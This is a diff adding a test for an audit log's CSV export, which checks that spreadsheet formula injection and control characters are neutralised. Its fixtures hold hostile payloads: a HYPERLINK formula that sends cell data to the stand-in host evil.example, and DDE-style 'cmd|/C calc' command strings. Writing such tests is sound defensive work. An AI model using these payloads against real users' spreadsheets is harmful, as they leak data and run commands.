@@ -19,12 +19,13 @@ const at = (n: number) =>
 
 describe('GET /audit/export', () => {
   let server: any;
+  let store: RolloutStore;
   const get = (path: string) => request(server).get(`/api/canary${path}`);
 
   beforeAll(async () => {
     const knex = await databases.init('SQLITE_3');
     ({ server } = await startBackend({ knex }));
-    const store = new RolloutStore(knex);
+    store = new RolloutStore(knex);
     for (let r = 0; r < ROLLOUTS; r++) {
       const rollout = makeRollout({
         id: `00000000-0000-4000-8000-00000000000${r}`,
@@ -139,5 +140,69 @@ describe('GET /audit/export', () => {
   ])('answers 400 to %s', async (query, message) => {
     const res = await get(`/audit/export?${query}`).expect(400);
     expect(res.body.error.message).toMatch(message);
+  });
+
+  it('exports cells that a spreadsheet would run as formulas as text, without control characters', async () => {
+    const rollout = makeRollout({
+      id: '00000000-0000-4000-8000-0000000000ff',
+      entityRef: 'component:default/hostile',
+      target: { ...makeRollout().target, name: 'hostile' },
+    });
+    const hostile = [
+      '=HYPERLINK("http://evil.example/?d="&A2,"Click")',
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '+1+1',
+      '-2+3',
+      '\tstarts with a tab',
+      '\rstarts with a carriage return',
+      '\uff1dfull-width equals',
+      'bell\u0007 escape\u001b[31m delete\u007f c1\u009b end',
+    ];
+    await store.insert(
+      rollout,
+      hostile.map((reason, i) => ({
+        rolloutId: rollout.id,
+        entityRef: rollout.entityRef,
+        at: at(5000 + i),
+        actor: i === 0 ? '=cmd|"/C calc"!A0' : 'engine',
+        action: i === 0 ? 'launch' : 'advance',
+        phaseAfter: rollout.phase,
+        stageIndex: 0,
+        weightsAfter: rollout.weights,
+        reason,
+        details: { note: reason },
+      })),
+    );
+    const csv = (
+      await get('/audit/export?entityRef=component:default/hostile').expect(200)
+    ).text;
+    const records = csv.trim().split('\n').slice(1);
+    expect(records).toHaveLength(hostile.length);
+    // The reason is the 11th column; a quoted cell begins with `"`, then the text.
+    const reasons = records.map(record =>
+      record.replace(/^([^,]*,){10}/, '').replace(/,"\{.*$/, ''),
+    );
+    expect(reasons).toEqual([
+      `"'=HYPERLINK(""http://evil.example/?d=""&A2,""Click"")"`,
+      "'@SUM(1+1)*cmd|' /C calc'!A0",
+      "'+1+1",
+      "'-2+3",
+      "'\tstarts with a tab",
+      // The carriage return is a control character: removed, nothing left to escape.
+      'starts with a carriage return',
+      "'\uff1dfull-width equals",
+      'bell escape[31m delete c1 end',
+    ]);
+    expect(records[0]).toMatch(
+      /^\d+,[^,]+,[^,]+,component:default\/hostile,"'=cmd\|""/,
+    );
+    // Nothing in the whole export is a control character other than the line feeds between rows.
+    // eslint-disable-next-line no-control-regex
+    expect(csv).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
+    // JSON keeps the text as written: it is data for programs, not a spreadsheet.
+    const json = await get(
+      '/audit/export?format=json&entityRef=component:default/hostile',
+    ).expect(200);
+    expect(json.body.map((e: any) => e.reason)).toEqual(hostile);
   });
 });
